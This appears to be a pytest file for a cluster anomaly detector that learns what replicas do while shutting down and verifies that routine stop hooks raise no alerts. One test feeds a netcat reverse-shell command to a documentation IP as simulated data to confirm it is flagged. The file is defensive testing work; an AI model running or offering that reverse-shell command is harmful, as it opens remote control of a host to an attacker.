"""What a replica does while it is stopped: shown as such in hindsight, kept as long as nobody stops, and judged no milder."""

from collections.abc import Sequence

import pytest
from detection.cluster import BEGIN, CART, SECOND, Cluster, Replica, alerts, analyse
from peerwatch.columns import ProcessFlag
from peerwatch.v1 import query_pb2

from collector.analysis.curated import CuratedAnalysis
from collector.detect.support import GONE_DAYS, GONE_STARTS
from collector.messages import baseline_from_proto
from collector.records import BehaviourState, Phase, Severity

QUIT = ("/usr/sbin/nginx", ("nginx", "-s", "quit"))
ENDS = (1000, 1200, 1400)
KEY = "/usr/sbin/nginx (injected)"


def ended(what: tuple[str, Sequence[str]], *, hook: bool = True) -> tuple[Cluster, list[Replica]]:
    """Return a workload of five, three of which end one after the other and do something 10 s before."""
    cluster = Cluster()
    pods = cluster.pods(5)
    cluster.normal(pods[3:], 0, 2000, every=5)
    for pod, end in zip(pods, ENDS, strict=False):
        cluster.normal([pod], 0, end, every=5)
        flags, parent = ((ProcessFlag.INJECTED,), "") if hook else ((), "/usr/bin/server")
        cluster.exec(end - 10.5, pod, what[0], args=what[1], flags=flags, parent=parent)
    return cluster, pods


def phases(cluster: Cluster, *, until: int) -> dict[str, tuple[Phase, ...]]:
    analysis = CuratedAnalysis()
    analysis.observe(cluster.table())
    analysis.advance(BEGIN + until * SECOND)
    return {each.key: each.phases for each in analysis.baseline(CART)}


def test_what_is_done_in_the_last_minute_only_belongs_to_the_end() -> None:
    cluster, _ = ended(QUIT)
    found = phases(cluster, until=2000)
    assert found[KEY] == (Phase.STOP,)
    assert found["/usr/bin/server"] == (Phase.START,)
    assert Phase.STOP not in found["/usr/bin/psql <- /usr/bin/server"]


def test_who_still_runs_has_no_end() -> None:
    cluster = Cluster()
    pods = cluster.pods(5)
    cluster.normal(pods, 0, 1000, every=5)
    cluster.exec(995, pods[0], QUIT[0], args=QUIT[1], flags=(ProcessFlag.INJECTED,), parent="")
    assert phases(cluster, until=1000)[KEY] == (Phase.STEADY,)


def test_a_phase_that_only_a_newer_collector_knows_is_left_out() -> None:
    message = query_pb2.GetBaselineResponse.Entry(key="/bin/x", phases=[Phase.STOP, 97])
    assert baseline_from_proto(CART, message).phases == (Phase.STOP,)


@pytest.mark.parametrize(
    "what",
    [
        QUIT,
        ("/usr/bin/sleep", ("sleep", "15")),
        ("/usr/bin/redis-cli", ("redis-cli", "shutdown")),
        ("/usr/bin/wget", ("wget", "-qO-", "http://127.0.0.1:15020/quitquitquit")),
        ("/app/stop.sh", ("/app/stop.sh",)),
    ],
    ids=lambda what: what[1][0],
)
def test_a_usual_hook_wakes_nobody(what: tuple[str, Sequence[str]]) -> None:
    cluster, _ = ended(what)
    assert alerts(analyse(cluster, until=2000)) == []


@pytest.mark.parametrize("hook", [True, False], ids=["entered", "from the service"])
def test_the_last_thing_that_a_replica_does_hides_nothing(*, hook: bool) -> None:
    cluster, pods = ended(("/usr/bin/nc", ("nc", "-e", "/bin/sh", "203.0.113.9", "4444")), hook=hook)
    found = alerts(analyse(cluster, until=2000))
    assert {each.severity >= Severity.MEDIUM for each in found} == {True}
    assert found[0].replicas[0].pod == pods[0].name


@pytest.mark.parametrize("starts", [GONE_STARTS - 1, GONE_STARTS])
def test_a_hook_is_kept_as_long_as_nobody_who_began_since_could_have_shown_it(starts: int) -> None:
    cluster, pods = ended(("/usr/bin/drain", ("drain",)), hook=False)
    for day in range(1, GONE_DAYS + 4):
        cluster.exec(day * 86_400, pods[3], "/usr/bin/psql")
        for number in range(starts):
            cluster.exec(day * 86_400 + 60 + number, cluster.pods(1, first=10 + number)[0], "/usr/bin/psql")
    analysis = CuratedAnalysis()
    analysis.observe(cluster.table())
    (drain,) = [each for each in analysis.baseline(CART) if each.key == "/usr/bin/drain <- /usr/bin/server"]
    learned = starts < GONE_STARTS
    assert drain.state is (BehaviourState.LEARNED if learned else BehaviourState.EXPIRED)
    assert drain.phases == ((Phase.STOP,) if learned else ())
